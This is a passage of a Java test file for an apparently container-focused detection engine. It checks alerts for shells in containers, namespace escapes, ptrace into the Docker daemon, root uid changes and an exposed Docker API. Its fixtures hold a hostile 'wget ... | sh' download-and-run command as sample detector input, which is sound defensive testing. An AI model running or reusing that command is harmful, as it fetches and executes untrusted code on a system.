        List.copyOf(doc.keySet()));
    assertEquals("Shell in container", doc.get("rule_title"));
    assertEquals(match.rule().description(), doc.get("rule_description"));
    assertEquals(1L, doc.get("schema"));
    assertEquals("alert", doc.get("kind"));
    assertEquals("2026-11-23T05:41:02.118Z", doc.get("time"));
    assertEquals("medium", doc.get("severity"));
    assertEquals(List.of("mitre.T1059.004", "container"), doc.get("tags"));
    assertEquals(
        "shell sh (pid 4321) started in container web (dockward/busybox:test):"
            + " sh -c wget -qO- http://10.0.0.5/x | sh",
        doc.get("summary"));
    assertEquals("3f9a0c1d2e4b-0000000000000034", doc.get("event_id"));
    assertEquals(4321L, ((Map<?, ?>) doc.get("process")).get("pid"));
    assertEquals("web", ((Map<?, ?>) doc.get("container")).get("name"));
    assertEquals(
        Map.of(
            "cmdline",
            "sh -c wget -qO- http://10.0.0.5/x | sh",
            "exe",
            "/bin/busybox",
            "ppid",
            4242L,
            "uid",
            0L),
        doc.get("evidence"));
  }

  @Test
  void postureAlertCarriesTheFindingAndItsRemediation() {
    Map<String, Object> event = Fixtures.event("posture_open_critical");
    RuleMatch m = ENGINE.evaluate(event).get(0);
    assertEquals("docker_api_tcp_without_tls", m.evidence().get("finding"));
    assertEquals("2.7", m.evidence().get("cis"));
    assertEquals("127.0.0.1:23751", m.evidence().get("instance"));
    assertTrue(
        m.summary()
            .startsWith(
                "critical posture weakness docker_api_tcp_without_tls: the Docker API listens on"),
        m.summary());
    assertTrue(String.valueOf(m.evidence().get("remediation")).startsWith("Remove the tcp://"));
  }

  @Test
  void escapeEvidenceNamesTheEscapedKindsAndTheInodes() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("exec_escape_nsenter_host_namespaces")).get(0);
    // pid is the host's too, but the container was given it (pid_mode host): not an escape
    assertEquals(List.of("mnt", "net"), match.evidence().get("escaped"));
    assertEquals(4026531841L, ((Map<?, ?>) match.evidence().get("namespaces")).get("mnt"));
    assertEquals("critical", match.rule().severity().label());
    assertEquals(
        "process sleep (pid 5120) of container web (dockward/busybox:test) runs in the host's"
            + " mnt,net namespaces: sleep 5",
        match.summary());
  }

  @Test
  @SuppressWarnings("unchecked")
  void escapeWithoutAHostReferenceDoesNotFire() {
    Map<String, Object> event = Fixtures.event("exec_escape_nsenter_host_namespaces");
    ((Map<String, Object>) event.get("process")).remove("host_ns");
    assertEquals(List.of(), Fixtures.firedIds(ENGINE, event));
  }

  @Test
  void ptraceEvidenceSaysTheTargetIsOutsideTheContainer() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("ptrace_from_container_to_host")).get(0);
    assertEquals(2577L, match.evidence().get("target_pid"));
    assertEquals("dockerd", match.evidence().get("target_name"));
    assertEquals(true, match.evidence().get("target_outside_container"));
  }

  @Test
  void privilegeEscalationEvidenceHasThePreviousEuid() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("uid_change_to_root_in_container")).get(0);
    assertEquals(1000L, match.evidence().get("previous_euid"));
    assertEquals(
        -1L,
        ENGINE
            .evaluate(Fixtures.event("exec_setuid_root_in_container"))
            .get(0)
            .evidence()
            .get("previous_euid"));
  }

  @Test
  void shellInContainerFiresOnANetlinkExecButNotOnOneThatVanishedUnread() {
    Map<String, Object> event = Fixtures.event("exec_shell_in_container");
    event.put("source", "netlink");
    assertEquals(
        List.of("shell_in_container", "download_piped_to_shell_in_container"),
        Fixtures.firedIds(ENGINE, event));
    // gone before it was read: pid, ppid and container only, its name unknown
    Map<String, Object> vanished = Fixtures.event("exec_shell_in_container");
    vanished.put("source", "netlink");
    vanished.put(
        "process",
        Map.of(
            "pid",
            4321L,
            "ppid",
            4242L,
            "start_time",
            1234560L,
            "name",
            "",
            "exe",
            "",
            "cmdline",
            "",
            "namespaces",
            Map.of(),
            "cgroup",
            ""));
    assertEquals(List.of(), Fixtures.firedIds(ENGINE, vanished));
  }

  @Test
  void hostEventAlertHasNoContainerKey() {
    RuleSet set =
        Fixtures.load(
                "t.yaml",
                """
                rules:
                  - id: host_shell
                    condition: event.type == "exec" && proc.name == "sh"
                    severity: low
                    output: "{proc.name} in {container.name}"
                """)
            .ruleSet();
    Map<String, Object> event = Fixtures.event("exec_shell_on_host");
    RuleMatch match = new RuleEngine(set).evaluate(event).get(0);
    assertEquals("sh in <none>", match.summary());
    Map<String, Object> doc = AlertDocuments.of(match.toAlert("a1", event));
    assertFalse(doc.containsKey("container"));
    assertTrue(doc.containsKey("process"));
  }
}
